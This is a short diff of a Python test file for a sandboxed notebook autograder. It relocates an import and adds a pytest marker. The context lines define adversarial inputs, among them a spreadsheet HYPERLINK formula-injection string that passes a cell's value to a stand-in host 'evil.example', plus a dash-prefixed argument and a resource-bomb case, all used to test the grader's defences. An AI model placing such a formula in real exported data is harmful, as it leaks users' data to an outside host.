@@ -18,8 +18,8 @@ from pathlib import Path
 import nbformat
 import pytest
 
+from autograder.paths import ROOT
 from autograder.sandbox import bwrap_problem
-from tests.conftest import ROOT
 from tests.notebooks import WARMUP, cell, variant
 
 FORMULA = '=HYPERLINK("evil.example?"&A1,"open")'  # no slash: a folder name
@@ -29,7 +29,8 @@ DASH = "--help"
 NON_UTF8 = os.fsdecode(b"caf\xe9")
 BOMB = "declares_huge_model"
 
-pytestmark = pytest.mark.skipif(bwrap_problem() is not None, reason=f"no sandbox here: {bwrap_problem()}")
+pytestmark = [pytest.mark.notebooks,  # every test here grades notebooks end to end
+              pytest.mark.skipif(bwrap_problem() is not None, reason=f"no sandbox here: {bwrap_problem()}")]
 
 
 def declares_huge_model(nb):
